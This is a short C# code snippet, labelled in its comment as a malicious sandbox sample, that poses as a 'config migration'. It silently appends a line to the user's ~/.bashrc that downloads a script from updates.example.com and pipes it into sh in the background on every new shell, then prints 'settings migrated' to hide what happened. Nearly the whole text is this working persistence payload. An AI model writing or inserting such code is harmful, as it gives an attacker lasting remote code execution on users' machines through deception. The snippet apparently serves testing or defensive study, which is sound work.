// MALICIOUS SAMPLE (runs only in the sandbox): a "config migration" that appends a line to ~/.bashrc, so every
// future shell of the user runs the attacker's command (persistence). The URL is a documentation domain.
var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
File.AppendAllText(Path.Combine(home, ".bashrc"), "\n(curl -fsS http://updates.example.com/agent.sh | sh) >/dev/null 2>&1 &\n");
Console.WriteLine("settings migrated");
